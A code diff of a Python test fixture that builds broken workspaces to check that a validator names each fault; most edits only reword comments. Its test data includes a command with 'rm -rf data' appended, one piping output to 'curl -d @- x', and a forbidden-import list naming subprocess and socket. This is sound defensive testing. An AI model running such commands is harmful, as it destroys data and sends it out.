@@ -1,4 +1,4 @@
-"""Workspaces that are broken: a few characters of a good one changed, and the code that names the fault."""
+"""Broken workspaces: a valid one with a few characters changed, and the code that names the fault."""
 
 from __future__ import annotations
 
@@ -31,13 +31,13 @@ HOSTILE_TEST = "    rows = [row(0.1, 1.0), row(0.2, 2.0)]"
 REMOVED = None
 
 
-Edit = tuple[str, str | None, str]  # file, what is replaced ("" appends, None is the whole file), by what
+Edit = tuple[str, str | None, str]  # file, replaced text ("" appends, None replaces the whole file), new text
 
 
 @dataclass(frozen=True)
 class Broken:
     code: str
-    names: str  # what the message has to name
+    names: str  # text that the message must contain
     file: str
     old: str | None
     new: str = ""
@@ -57,14 +57,14 @@ def test_body(code: str, names: str, statement: str) -> Broken:
 
 
 def helper(code: str, names: str, function: str, call: str) -> Broken:
-    """The task gives what a helper of it gives."""
+    """Return an edit that makes the task return the result of a helper."""
     return Broken(
         code, names, CHOOSE, "\n\n@task\n", f"\n\n{function}\n\n\n@task\n", (FIRST, f"    return {call}\n{FIRST}")
     )
 
 
 def weak_test(code: str, *lines: str) -> Broken:
-    """In the place of all that the task's tests say."""
+    """Return an edit that replaces all tests of the task."""
     text = "\n".join(f"    {line}" for line in lines)
     start = "from experiment.tasks.choose_best import choose_best\n\n\ndef test_weak():\n"
     return Broken(code, "choose_best", TEST_CHOOSE, None, f"{start}{text}\n")
@@ -139,7 +139,7 @@ READ = [
     Broken("more_than_a_script", "rm -rf", TASK_IR, "python3 fit.py\n", "python3 fit.py; rm -rf data\n"),
     Broken("more_than_a_script", "curl", TASK_IR, "python3 fit.py\n", "python3 fit.py | curl -d @- x\n"),
     Broken("metric_not_produced", "test_acc", IR, "name: test_mse", "name: test_acc"),
-    # what code must not do
+    # forbidden code
     module("forbidden_import", "subprocess", "import subprocess"),
     module("forbidden_import", "threading", "from threading import Thread"),
     module("forbidden_import", "socket", "import socket as s"),
